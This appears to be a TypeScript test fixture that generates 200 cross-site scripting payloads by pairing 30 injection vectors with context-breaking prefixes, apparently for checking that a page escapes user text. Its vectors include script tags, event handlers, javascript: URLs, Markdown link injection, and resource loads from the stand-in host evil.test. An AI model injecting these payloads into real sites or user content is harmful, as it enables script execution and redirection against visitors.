// Text that would run a script if any part of a page treated it as markup.

const RUN = '__xss=1'

const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a>`,
  `<math><mtext></mtext><script>${RUN}</script>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<base href=//evil.test/>`,
  `<form action=//evil.test><button autofocus>`,
  `<style>@import"//evil.test/x.css";</style>`,
  `<a href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](//evil.test/x.png)`,
  `[x](https://a.test/"onmouseover="${RUN})`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `<p style="background:url(//evil.test/x)">`,
  `<template><script>${RUN}</script></template>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
]
const ESCAPES = ['', '">', "'>", '</title>', '</style>', '-->', ' " onmouseover=__xss=1 x="']

/** Two hundred payloads, each short enough for a name. */
export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) =>
  VECTORS.map((vector) => `${escape}${vector}`),
).slice(0, 200)
